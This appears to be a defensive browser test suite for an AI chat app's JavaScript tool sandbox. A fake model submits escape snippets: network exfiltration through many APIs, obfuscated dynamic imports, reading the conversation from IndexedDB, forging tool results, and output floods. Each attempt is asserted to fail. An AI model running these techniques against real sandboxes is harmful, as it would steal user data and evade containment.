/**
 * Escape attempts against run_javascript's sandbox, in real Chromium against the built app:
 * each attempt is a snippet the (fake) model asks to run, through the same path a real tool
 * call takes. A local listener (HTTP on 127.0.0.1 and UDP on the same port, for QUIC and
 * STUN) must receive nothing, the tool result must not carry the conversation's secret or
 * the API key, and floods must end stopped or cut while the page goes on answering.
 */
import { createServer, type Server } from 'node:http';
import { createSocket, type Socket } from 'node:dgram';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { startFakeApi, type FakeApi } from '../fake-api/server';
import { launchBrowser, newPage } from '../e2e/browser';
import { appFetchCount, chatRequests, configure, countAppFetches, PROVIDER_SETUPS, storedRecords, until } from '../e2e/providersHelpers';

/** Written into every user message, so it is in the app's IndexedDB while each snippet runs. */
const SECRET = 'SECRET-ZEBRA-7Q2X-CONVERSATION';
const API_KEY = PROVIDER_SETUPS.anthropic.apiKey;

interface Listener {
  url: string;
  port: number;
  /** Every TCP connection, HTTP request, upgrade and UDP datagram it received. */
  hits: string[];
  close(): Promise<void>;
}

async function startListener(): Promise<Listener> {
  const hits: string[] = [];
  const http: Server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.setHeader('access-control-allow-origin', '*');
    response.end('reached');
  });
  http.on('connection', () => hits.push('tcp connection'));
  http.on('upgrade', (request, socket) => {
    hits.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
  const port = (http.address() as AddressInfo).port;
  const udp: Socket = createSocket('udp4');
  udp.on('message', (message) => hits.push(`udp ${message.length} bytes`));
  await new Promise<void>((resolve, reject) => {
    udp.once('error', reject);
    udp.bind(port, '127.0.0.1', resolve);
  });
  return {
    url: `http://127.0.0.1:${port}`,
    port,
    hits,
    close: async () => {
      http.closeAllConnections();
      await Promise.all([new Promise((resolve) => http.close(resolve)), new Promise<void>((resolve) => udp.close(() => resolve()))]);
    },
  };
}

interface ToolResult {
  content: string;
  isError: boolean;
}

/** A run's result and what the listener received while it ran (earlier hits are an earlier attempt's failure). */
interface Run extends ToolResult {
  hits: string[];
}

interface Attempt {
  name: string;
  /** The snippet, given the listener's address and the attempt's own path on it. */
  code: (url: string, port: number) => string;
  /** What the result must show beyond carrying no secret. */
  check?: (result: ToolResult) => void;
}

/** Tries every async step with a short wait, so an attempt that neither succeeds nor fails does not hold the run. */
const settle = (expression: string) =>
  `await Promise.race([Promise.resolve().then(() => ${expression}).then(() => 'reached', (e) => 'blocked: ' + e), new Promise((r) => setTimeout(() => r('no answer'), 300))])`;

/**
 * An attempt that first replaces built-ins the runner's guard could rely on, prints "tampered"
 * (so the result shows the snippet really ran, not refused whole) and then tries `attempt`.
 */
function afterTampering(name: string, tamper: string, attempt: (url: string) => string): Attempt {
  return {
    name,
    code: (u) => `${tamper}\nconsole.log('tampered');\n${settle(attempt(u))}`,
    check: (result) => expect(result.content).toMatch(/^Output:\ntampered\n/),
  };
}

const NETWORK: Attempt[] = [
  { name: 'fetch', code: (u) => `${settle(`fetch('${u}/fetch')`)}` },
  {
    name: 'fetch recovered from a prototype of the global object',
    code: (u) =>
      `let found; for (let p = self; p && !found; p = Object.getPrototypeOf(p)) { const d = Object.getOwnPropertyDescriptor(p, 'fetch'); if (d) found = d.value ?? d.get?.call(self); }\n${settle(`found('${u}/proto')`)}`,
  },
  { name: 'fetch after delete self.fetch', code: (u) => `try { delete self.fetch; } catch {}\n${settle(`self.fetch('${u}/deleted')`)}` },
  { name: 'XMLHttpRequest', code: (u) => `const x = new XMLHttpRequest(); x.open('GET', '${u}/xhr'); x.send(); 'sent'` },
  { name: 'WebSocket', code: (u) => `new WebSocket('${u.replace('http', 'ws')}/ws'); 'opened'` },
  { name: 'WebSocketStream', code: (u) => `new WebSocketStream('${u.replace('http', 'ws')}/wss'); 'opened'` },
  { name: 'EventSource', code: (u) => `new EventSource('${u}/sse'); 'opened'` },
  { name: 'navigator.sendBeacon', code: (u) => `navigator.sendBeacon('${u}/beacon', 'data')` },
  {
    name: 'new Request passed to fetch, and Image where it exists',
    code: (u) => `const r = new Request('${u}/request'); if (typeof Image === 'function') new Image().src = '${u}/image';\n${settle('fetch(r)')}`,
  },
  { name: 'importScripts', code: (u) => `importScripts('${u}/scripts')` },
  { name: 'dynamic import()', code: (u) => `await import('${u}/module.js')` },
  { name: 'import() built from pieces through eval', code: (u) => `await eval('imp' + 'ort("${u}/eval-module.js")')` },
  { name: 'import() with an escaped keyword through eval', code: (u) => `await eval('\\\\u0069mport("${u}/escaped.js")')` },
  afterTampering(
    'import() through eval after RegExp.prototype.test and exec are replaced',
    `RegExp.prototype.test = () => false; RegExp.prototype.exec = () => null;`,
    (u) => `eval('imp' + 'ort("${u}/regexp.js")')`,
  ),
  afterTampering(
    'import() through Function after Array.prototype.map and iteration are replaced',
    `Array.prototype.map = function () { return ['return 1']; }; Array.prototype[Symbol.iterator] = function* () { yield 'return 1'; };`,
    (u) => `Function('return imp' + 'ort("${u}/array.js")')()`,
  ),
  afterTampering(
    'import() through eval after every String.prototype method is replaced',
    `for (const k of Object.getOwnPropertyNames(String.prototype)) { if (k === 'length' || k === 'constructor' || k === 'toString' || k === 'valueOf') continue; try { String.prototype[k] = function () { return k === 'indexOf' || k === 'search' || k === 'lastIndexOf' ? -1 : k === 'includes' || k === 'startsWith' || k === 'endsWith' ? false : this; }; } catch {} }`,
    (u) => `eval('imp' + 'ort("${u}/string.js")')`,
  ),
  afterTampering(
    'import() through Function after Function.prototype.call, apply and bind are replaced',
    `Function.prototype.call = function () { return 'hijacked'; }; Function.prototype.apply = function () { return 'hijacked'; }; Function.prototype.bind = function () { return () => 'hijacked'; };`,
    (u) => `Function('return imp' + 'ort("${u}/call.js")')()`,
  ),
  afterTampering(
    'import() through Function after Object.defineProperty, Reflect and JSON are replaced',
    `Object.defineProperty = () => {}; Reflect.construct = () => () => 'hijacked'; Reflect.apply = () => 'x'; JSON.stringify = () => 'FORGED';`,
    (u) => `new Function('return imp' + 'ort("${u}/define.js")')()`,
  ),
  afterTampering(
    'import() through the async and generator function constructors reached from instances, after Symbol.hasInstance is replaced',
    `const A = (async () => {}).constructor, G = (function* () {}).constructor; Object.defineProperty(Function, Symbol.hasInstance, { value: () => true });`,
    (u) => `Promise.all([A('return imp' + 'ort("${u}/async.js")')(), G('yield imp' + 'ort("${u}/gen.js")')().next().value])`,
  ),
  {
    name: 'import() through a string handed to setTimeout',
    code: (u) => `setTimeout('imp' + 'ort("${u}/timer.js")', 0); await new Promise((r) => setTimeout(r, 100)); 'waited'`,
  },
  { name: 'FontFace load', code: (u) => `${settle(`new FontFace('leak', 'url(${u}/font.woff2)').load()`)}` },
  {
    name: 'FontFace added to self.fonts',
    code: (u) => `self.fonts.add(new FontFace('leak', 'url(${u}/fonts.woff2)')); ${settle('self.fonts.load("16px leak")')}`,
  },
  {
    name: 'Worker from a blob: URL that fetches',
    code: (u) => `new Worker(URL.createObjectURL(new Blob(["fetch('${u}/blob-worker')"]))); await new Promise((r) => setTimeout(r, 200)); 'started'`,
  },
  {
    name: 'Worker from a data: URL that fetches',
    code: (u) => `new Worker("data:text/javascript,fetch('${u}/data-worker')"); await new Promise((r) => setTimeout(r, 200)); 'started'`,
  },
  { name: 'SharedWorker', code: (u) => `new SharedWorker(URL.createObjectURL(new Blob(["fetch('${u}/shared')"]))); 'started'` },
  {
    name: 'nested worker reached through the Worker constructor of a prototype',
    code: (u) =>
      `const W = Object.getPrototypeOf(self).constructor.prototype.Worker ?? self.Worker; new W(URL.createObjectURL(new Blob(["fetch('${u}/nested')"]))); 'started'`,
  },
  { name: 'BroadcastChannel to the app', code: () => `for (const name of ['windowpane', 'x']) new BroadcastChannel(name).postMessage('${SECRET}'); 'posted'` },
  { name: 'WebTransport', code: (_u, port) => `${settle(`new WebTransport('https://127.0.0.1:${port}/wt').ready`)}` },
  {
    name: 'RTCPeerConnection with an ICE server on the listener',
    code: (_u, port) =>
      `const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }, { urls: 'turn:127.0.0.1:${port}', username: 'u', credential: 'c' }] }); pc.createDataChannel('x'); await pc.setLocalDescription(await pc.createOffer()); 'gathering'`,
  },
  { name: 'WebAssembly.instantiateStreaming of a response', code: (u) => `${settle(`WebAssembly.instantiateStreaming(fetch('${u}/wasm'))`)}` },
  {
    name: 'top navigation through location and open()',
    code: (u) =>
      `try { location.href = '${u}/location'; } catch {}\ntry { self.open('${u}/open'); } catch {}\ntry { top.location = '${u}/top'; } catch {}\n'tried'`,
  },
  { name: 'a service worker registration', code: (u) => `${settle(`navigator.serviceWorker.register('${u}/sw.js')`)}` },
];

/** The result shows the snippet's real value: nothing forged reached the page as its result. */
const realResult = (value: string) => (result: ToolResult) => {
  expect(result.content).not.toContain('FORGED');
  expect(result.content).toContain(`Result: ${value}`);
};

const FORGERIES: Attempt[] = [
  {
    name: "hijacking Promise.prototype.then to get the runner's post function",
    code: () =>
      `const then = Promise.prototype.then;\nPromise.prototype.then = function (ok, fail) { if (typeof ok === 'function') try { ok({ type: 'done', result: 'FORGED' }); } catch {} return then.call(this, ok, fail); };\n'real'`,
    check: realResult('"real"'),
  },
  {
    name: 'hijacking Promise.prototype.then while the runner awaits a promise the snippet returns',
    code: () =>
      `const then = Promise.prototype.then;\nPromise.prototype.then = function (ok, fail) { if (typeof ok === 'function') try { ok({ type: 'done', result: 'FORGED' }); } catch {} return then.call(this, ok, fail); };\nPromise.resolve('real')`,
    check: (result) => expect(result.content).not.toContain('FORGED'),
  },
  {
    name: 'overriding self.postMessage and sending a fake done',
    code: () =>
      `try { self.postMessage = () => {}; } catch {}\ntry { Object.getPrototypeOf(self).postMessage = () => {}; } catch {}\nlet sent = 'not sent'; try { postMessage({ type: 'done', result: 'FORGED' }); sent = 'sent'; } catch (e) { sent = String(e); }\nsent`,
    check: (result) => {
      expect(result.content).not.toContain('Result: FORGED');
      expect(result.content).toContain('postMessage is not available');
    },
  },
  {
    name: 'postMessage recovered from a prototype descriptor',
    code: () =>
      `let out = 'none'; for (let p = self; p; p = Object.getPrototypeOf(p)) { const d = Object.getOwnPropertyDescriptor(p, 'postMessage'); if (d) { try { (d.value ?? d.get.call(self)).call(self, { type: 'done', result: 'FORGED' }); out = 'sent'; } catch (e) { out = String(e); } break; } }\nout`,
    check: (result) => expect(result.content).not.toContain('Result: FORGED'),
  },
  {
    name: 'a message event dispatched to the worker to start a second run',
    code: () => `self.dispatchEvent(new MessageEvent('message', { data: { code: "'FORGED'" } }));\nawait new Promise((r) => setTimeout(r, 50));\n'real'`,
    check: realResult('"real"'),
  },
  {
    name: 'reaching the runner through Function.prototype.caller from a toJSON it calls',
    code: () =>
      `function spy() { let c = spy.caller; for (let i = 0; c && i < 10; i++) { try { c({ type: 'done', result: 'FORGED' }); } catch {} c = c.caller; } return 'real'; }\n({ toJSON: spy })`,
    check: realResult('"real"'),
  },
  {
    name: 'console output that claims to be a done message',
    code: () => `console.log(JSON.stringify({ type: 'done', result: 'FORGED' })); 'real'`,
    check: (result) => expect(result).toMatchObject({ content: 'Output:\n{"type":"done","result":"FORGED"}\nResult: "real"', isError: false }),
  },
  {
    name: 'replacing Symbol.hasInstance of Error and the error getters while the runner formats a throw',
    code: () =>
      `Object.defineProperty(Error, Symbol.hasInstance, { value: function (v) { try { arguments.callee.caller?.({ type: 'done', result: 'FORGED' }); } catch {} return true; } });\nthrow { get name() { return 'Forged'; }, get message() { return 'FORGED?'.repeat(3); } }`,
    check: (result) => {
      expect(result.isError).toBe(true);
      expect(result.content).not.toContain('Result: FORGED');
    },
  },
];

/** Read attempts print whatever they find: the secret must not be among it. */
const READS: Attempt[] = [
  {
    name: "the app origin's IndexedDB, where the conversation is",
    code: () =>
      `${settle(`new Promise((ok, fail) => { const o = indexedDB.open('windowpane'); o.onerror = () => fail(o.error); o.onsuccess = () => { const t = o.result.transaction('messages').objectStore('messages').getAll(); t.onsuccess = () => { console.log(JSON.stringify(t.result)); ok(); }; t.onerror = () => fail(t.error); }; })`)}`,
  },
  {
    name: 'IndexedDB recovered from a prototype',
    code: () =>
      `let db; for (let p = self; p && !db; p = Object.getPrototypeOf(p)) db = Object.getOwnPropertyDescriptor(p, 'indexedDB')?.get?.call(self);\ndb ? db.databases() : 'none'`,
  },
  {
    name: 'localStorage and sessionStorage',
    code: () =>
      `[typeof localStorage === 'undefined' ? 'none' : JSON.stringify(localStorage), typeof sessionStorage === 'undefined' ? 'none' : JSON.stringify(sessionStorage)]`,
  },
  {
    name: "the parent page's DOM",
    code: () =>
      `const out = []; for (const get of [() => parent.document.body.innerText, () => top.document.body.innerText, () => document.body.innerText, () => opener.document.body.innerText, () => self.frames]) { try { out.push(String(get())); } catch (e) { out.push('blocked'); } }\nout`,
  },
  { name: 'CacheStorage', code: () => `${settle(`caches.keys().then((k) => console.log(k))`)}` },
  { name: 'the origin private file system and storage estimate', code: () => `${settle(`navigator.storage.getDirectory()`)}` },
  { name: 'cookies', code: () => `${settle(`cookieStore.getAll().then((c) => console.log(JSON.stringify(c)))`)}` },
];

const PRINT_FLOODS: Attempt[] = [
  {
    name: "for (;;) console.log('')",
    code: () => `for (;;) console.log('')`,
    check: (result) => {
      expect(result.content).toContain('Stopped after 5 seconds, the time limit');
      expect(result.content).toContain('[It printed more than 10,000 characters; the rest was not kept.]');
    },
  },
  {
    name: 'console.log flood from a timer while the promise never settles',
    code: () => `setInterval(() => { for (let i = 0; i < 1000; i++) console.log(i); }, 0);\nawait new Promise(() => {})`,
    check: (result) => {
      expect(result.content).toContain('Stopped after 5 seconds, the time limit');
      expect(result.content).toContain('[It printed more than 10,000 characters; the rest was not kept.]');
    },
  },
  {
    name: 'for (;;) console.error of an object with a huge toJSON',
    code: () => `const big = { toJSON: () => 'y'.repeat(1e6) };\nfor (;;) console.error(big)`,
    check: (result) => {
      expect(result.content).toContain('Stopped after 5 seconds, the time limit');
      expect(result.content).toContain('[It printed more than 10,000 characters; the rest was not kept.]');
    },
  },
];

const HUGE: Attempt[] = [
  {
    name: 'one huge console.log',
    code: () => `console.log('x'.repeat(2 ** 27)); 'after'`,
    check: (result) => {
      expect(result.content).toContain('[It printed more than 10,000 characters; the rest was not kept.]');
      expect(result.content).toContain('Result: "after"');
    },
  },
  {
    name: "a result of 'x'.repeat(2 ** 27)",
    code: () => `'x'.repeat(2 ** 27)`,
    check: (result) => expect(result.content).toContain(`[${2 ** 27 + 2} characters, cut]`),
  },
  {
    name: 'throwing an error with a huge message',
    code: () => `throw new Error('e'.repeat(2 ** 27))`,
    check: (result) => {
      expect(result.isError).toBe(true);
      expect(result.content).toContain(`[${2 ** 27 + 7} characters, cut] Error: eee`);
    },
  },
  {
    name: 'throwing a huge string',
    code: () => `throw 's'.repeat(2 ** 26)`,
    check: (result) => {
      expect(result.isError).toBe(true);
      expect(result.content).toContain(`[${2 ** 26 + 2} characters, cut]`);
    },
  },
  {
    name: 'a result object whose JSON is huge',
    code: () => `Array.from({ length: 200000 }, (_, i) => ({ i, text: 'row ' + i }))`,
    check: (result) => expect(result.content).toMatch(/\[\d{6,} characters, cut\] \[\{"i":0,"text":"row 0"\}/),
  },
];

describe('run_javascript sandbox escape attempts', () => {
  let browser: Browser;
  let fake: FakeApi;
  let listener: Listener;
  let context: BrowserContext;
  let page: Page;
  let appErrors: string[];

  beforeAll(async () => {
    [browser, fake, listener] = await Promise.all([launchBrowser(), startFakeApi({ contextWindow: 200_000, deltaDelayMs: 0 }), startListener()]);
    ({ page, context, errors: appErrors } = await newPage(browser));
    await countAppFetches(page, '/v1/models');
    await page.goto(inject('appUrl'));
    await configure(page, fake, PROVIDER_SETUPS.anthropic, { contextWindow: 200_000 });
    // Anything the app page itself would receive on these channels.
    await page.evaluate(() => {
      const received: unknown[] = [];
      (window as unknown as { __broadcasts: unknown[] }).__broadcasts = received;
      for (const name of ['windowpane', 'x']) new BroadcastChannel(name).onmessage = (event) => received.push(event.data);
    });
  });

  afterAll(async () => {
    await context?.close();
    await Promise.all([browser?.close(), fake?.close(), listener?.close()]);
  });

  /** Runs `code` as the model's one tool call in a new chat whose user message holds the secret, and returns its stored result. */
  async function runSnippet(code: string, whileRunning?: () => Promise<void>): Promise<Run> {
    const from = listener.hits.length;
    fake.setReply((reply) =>
      reply.answersToolResults || !reply.toolNames.includes('run_javascript') ? undefined : { toolCalls: [{ name: 'run_javascript', input: { code } }] },
    );
    await page.getByRole('button', { name: 'New chat' }).click();
    const before = chatRequests(fake).length;
    await page.getByRole('textbox', { name: 'Message' }).fill(`Run the snippet. ${SECRET}`);
    await page.getByRole('button', { name: 'Send', exact: true }).click();
    await until(() => chatRequests(fake).length > before && chatRequests(fake)[before]!.completed, 'the tool call');
    await whileRunning?.();
    // Not waitIdle: a tool row whose code says "sendBeacon" is a button named like Send too.
    await page.getByRole('button', { name: 'Stop', exact: true }).waitFor({ state: 'hidden', timeout: 30_000 });
    await page.getByRole('button', { name: 'Send', exact: true }).waitFor();
    const records = await storedRecords(page);
    const blocks = records.flatMap(
      (r) => r.content as { type: string; id?: string; input?: { code?: string }; tool_use_id?: string; content?: string; is_error?: boolean }[],
    );
    const call = blocks.find((b) => b.type === 'tool_use' && b.input?.code === code);
    const result = blocks.find((b) => b.type === 'tool_result' && b.tool_use_id === call?.id);
    if (!result) throw new Error('the tool call has no stored result');
    // Late requests (a beacon, a nested worker) get a moment to arrive.
    await page.waitForTimeout(100);
    return { content: result.content ?? '', isError: result.is_error === true, hits: listener.hits.slice(from) };
  }

  it('control: the listener is reachable from the app page, and the secret is in the app origin IndexedDB', async () => {
    const answer = await page.evaluate((url) => fetch(`${url}/control`).then((r) => r.text()), listener.url);
    expect(answer).toBe('reached');
    expect(listener.hits).toContain('GET /control');
    await runSnippet('1 + 1');
    expect(JSON.stringify(await storedRecords(page))).toContain(SECRET);
    listener.hits.length = 0;
  });

  const expectNothingOut = (result: Run) => {
    expect(result.hits).toEqual([]);
    expect(result.content).not.toContain(SECRET);
    expect(result.content).not.toContain(API_KEY);
  };

  describe('cannot reach the network', () => {
    // The path names the attempt by number: a path with the word "import" in it would get the snippet refused before it runs.
    it.each(NETWORK.map((a, i) => [a.name, a, i] as const))('%s', async (_name, attempt, index) => {
      const result = await runSnippet(attempt.code(`${listener.url}/attempt-${index}`, listener.port));
      expectNothingOut(result);
      attempt.check?.(result);
    });
  });

  describe('cannot forge what the sandbox reports', () => {
    it.each(FORGERIES.map((a) => [a.name, a] as const))('%s', async (_name, attempt) => {
      const result = await runSnippet(attempt.code(listener.url, listener.port));
      expectNothingOut(result);
      attempt.check?.(result);
    });
  });

  it('a done message posted to the app by any other window while a snippet runs is ignored', async () => {
    const result = await runSnippet("await new Promise((r) => setTimeout(r, 2000));\n'real'", async () => {
      // From the app window itself, and from another sandboxed frame (origin "null" too, but not the run's frame).
      await page.evaluate(() => {
        window.postMessage({ type: 'done', result: 'FORGED' }, '*');
        const frame = document.createElement('iframe');
        frame.setAttribute('sandbox', 'allow-scripts');
        frame.id = 'forger';
        frame.src = '/sandbox.html';
        document.body.append(frame);
      });
      const forger = await (await page.waitForSelector('#forger', { state: 'attached' })).contentFrame();
      await forger!.waitForLoadState('load');
      await forger!.evaluate(() => {
        for (let i = 0; i < 300; i++) parent.postMessage({ type: 'done', result: 'FORGED' }, '*');
      });
      await page.evaluate(() => document.getElementById('forger')?.remove());
    });
    expect(result).toMatchObject({ content: 'Result: "real"', isError: false, hits: [] });
  });

  describe('cannot read the conversation', () => {
    it.each(READS.map((a) => [a.name, a] as const))('%s', async (_name, attempt) => {
      const result = await runSnippet(attempt.code(listener.url, listener.port));
      expectNothingOut(result);
      attempt.check?.(result);
    });
  });

  describe('floods are stopped while the page goes on answering', () => {
    it.each(PRINT_FLOODS.map((a) => [a.name, a] as const))('%s', async (_name, attempt) => {
      let framesWhileRunning = 0;
      const result = await runSnippet(attempt.code(listener.url, listener.port), async () => {
        // The page paints frames and opens a dialog while the snippet is still running.
        for (let i = 0; i < 10; i++) framesWhileRunning += await page.evaluate(() => new Promise<number>((resolve) => requestAnimationFrame(() => resolve(1))));
        await page.getByRole('button', { name: 'Settings' }).click();
        const dialog = page.getByRole('dialog', { name: 'Settings' });
        await dialog.waitFor();
        await dialog.getByRole('button', { name: 'Cancel' }).click();
        expect(await page.getByRole('button', { name: 'Stop', exact: true }).isVisible()).toBe(true);
      });
      expect(framesWhileRunning).toBe(10);
      expectNothingOut(result);
      attempt.check?.(result);
      expect(result.content.length).toBeLessThanOrEqual(10_000);
    });

    it('a snippet printing a line every 10 ms for 3 seconds keeps every line, in order, and is not stopped', async () => {
      const result = await runSnippet(
        "for (let i = 0; i < 300; i++) {\n  console.log('line ' + i);\n  await new Promise((r) => setTimeout(r, 10));\n}\n'finished'",
      );
      const lines = Array.from({ length: 300 }, (_, i) => `line ${i}`).join('\n');
      expect(result).toMatchObject({ content: `Output:\n${lines}\nResult: "finished"`, isError: false, hits: [] });
    });

    it.each(HUGE.map((a) => [a.name, a] as const))('%s is cut', async (_name, attempt) => {
      const result = await runSnippet(attempt.code(listener.url, listener.port));
      expectNothingOut(result);
      attempt.check?.(result);
      expect(result.content.length).toBeLessThanOrEqual(10_000);
      // The page still answers and runs the next snippet.
      expect(await runSnippet('6 * 7')).toMatchObject({ content: 'Result: 42', isError: false });
    });
  });

  it('nothing reached the listener or the app page over the whole suite, late requests included', async () => {
    await page.waitForTimeout(1000);
    expect(listener.hits).toEqual([]);
    // Settings lists a key's models by itself: every listing the fake saw is one the app page sent, none a snippet's.
    expect(fake.requests.filter((r) => r.path.endsWith('/models') && r.method !== 'OPTIONS')).toHaveLength(await appFetchCount(page));
    expect(await page.evaluate(() => (window as unknown as { __broadcasts: unknown[] }).__broadcasts)).toEqual([]);
    expect(new URL(page.url()).origin).toBe(new URL(inject('appUrl')).origin);
    expect(appErrors.filter((e) => /Content Security Policy|Refused to/.test(e))).toEqual([]);
  });
});

describe("the sandbox frame's policy alone", () => {
  let browser: Browser;
  let listener: Listener;
  beforeAll(async () => {
    [browser, listener] = await Promise.all([launchBrowser(), startListener()]);
  });
  afterAll(async () => {
    await Promise.all([browser?.close(), listener?.close()]);
  });

  it('keeps a worker with no block list from every request it tries', async () => {
    const { page, context } = await newPage(browser);
    await page.goto(inject('appUrl'));
    // A worker script with no lockdown at all, started by the real sandbox frame.
    const worker = `
      const u = ${JSON.stringify(listener.url)};
      const wait = (p) => Promise.race([Promise.resolve().then(p).then(() => 'reached', (e) => 'blocked: ' + e), new Promise((r) => setTimeout(() => r('no answer'), 500))]);
      const event = (make) => wait(() => new Promise((ok, fail) => { const s = make(); s.onopen = s.onload = ok; s.onerror = () => fail(new Error('error event')); }));
      onmessage = async () => {
        const out = {
          fetch: await wait(() => fetch(u + '/raw-fetch')),
          xhr: await event(() => { const x = new XMLHttpRequest(); x.open('GET', u + '/raw-xhr'); x.send(); return x; }),
          webSocket: await event(() => new WebSocket(u.replace('http', 'ws') + '/raw-ws')),
          eventSource: await event(() => new EventSource(u + '/raw-sse')),
          importScripts: await wait(() => importScripts(u + '/raw-importScripts')),
          import: await wait(() => import(u + '/raw-import.js')),
          fontFace: await wait(() => new FontFace('f', 'url(' + u + '/raw-font)').load()),
          blobWorker: await wait(() => new Promise((ok, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + u + "/raw-nested').then(() => postMessage('reached'), (e) => postMessage('blocked: ' + e))"]))); w.onmessage = (e) => (e.data === 'reached' ? ok() : fail(e.data)); w.onerror = () => fail('error'); })),
          dataWorker: await wait(() => new Promise((ok, fail) => { const w = new Worker('data:text/javascript,fetch("' + u + '/raw-data-worker").then(() => postMessage("reached"), (e) => postMessage("blocked: " + e))'); w.onmessage = (e) => (e.data === 'reached' ? ok() : fail(e.data)); w.onerror = () => fail('error'); })),
          indexedDB: await wait(() => new Promise((ok, fail) => { const o = indexedDB.open('windowpane'); o.onsuccess = ok; o.onerror = () => fail(o.error); })),
          caches: await wait(() => caches.keys()),
        };
        postMessage({ type: 'done', result: JSON.stringify(out) });
      };`;
    const outcome = await page.evaluate(
      (source) =>
        new Promise<string>((resolve, reject) => {
          const frame = document.createElement('iframe');
          frame.setAttribute('sandbox', 'allow-scripts');
          frame.src = '/sandbox.html';
          addEventListener('message', (event) => {
            if (event.source !== frame.contentWindow) return;
            const data = event.data as { type: string; result?: string; error?: string };
            if (data.type === 'ready') frame.contentWindow!.postMessage({ worker: source, code: '' }, '*');
            else if (data.type === 'done') resolve(data.result!);
            else if (data.type === 'failed') reject(new Error(data.error));
          });
          document.body.append(frame);
        }),
      worker,
    );
    const results = JSON.parse(outcome) as Record<string, string>;
    expect(Object.keys(results)).toHaveLength(11);
    expect(Object.entries(results).filter(([, v]) => v === 'reached')).toEqual([]);
    await page.waitForTimeout(500);
    expect(listener.hits).toEqual([]);
    await context.close();
  });
});

describe('the sandbox page framed by another site', () => {
  let browser: Browser;
  let evil: Server;
  let evilUrl: string;
  beforeAll(async () => {
    browser = await launchBrowser();
    // Another origin (another port) whose page frames the app's sandbox.html.
    evil = createServer((request, response) => {
      const sandboxed = request.url === '/sandboxed';
      response.setHeader('content-type', 'text/html');
      response.end(`<!doctype html><body><script>
        window.received = [];
        const frame = document.createElement('iframe');
        ${sandboxed ? "frame.setAttribute('sandbox', 'allow-scripts');" : ''}
        frame.src = ${JSON.stringify(`${inject('appUrl')}/sandbox.html`)};
        const worker = "onmessage = async () => { let names; try { names = (await indexedDB.databases()).map((d) => d.name); } catch (e) { names = String(e); } postMessage({ type: 'done', result: JSON.stringify(names) }); };";
        addEventListener('message', (event) => {
          if (event.source !== frame.contentWindow) return;
          received.push(event.data);
          if (event.data && event.data.type === 'ready') frame.contentWindow.postMessage({ worker, code: '' }, '*');
        });
        document.body.append(frame);
      </script>`);
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    await browser?.close();
    evil?.closeAllConnections();
    await new Promise((resolve) => evil?.close(resolve));
  });

  it.each([
    ['without the sandbox attribute, where it would have the app origin and its IndexedDB', '/'],
    ['with the sandbox attribute', '/sandboxed'],
  ])('%s: runs nothing and answers nothing', async (_name, path) => {
    const { page, context } = await newPage(browser);
    // The app has opened its database in this profile, so there is something to find.
    await page.goto(inject('appUrl'));
    await page.getByRole('textbox', { name: 'Message' }).waitFor();
    expect(await page.evaluate(async () => (await indexedDB.databases()).map((d) => d.name))).toContain('windowpane');
    await page.goto(`${evilUrl}${path}`);
    await page.frames()[1]!.waitForLoadState('load');
    await page.waitForTimeout(1000);
    expect(await page.evaluate(() => (window as unknown as { received: unknown[] }).received)).toEqual([]);
    await context.close();
  });
});
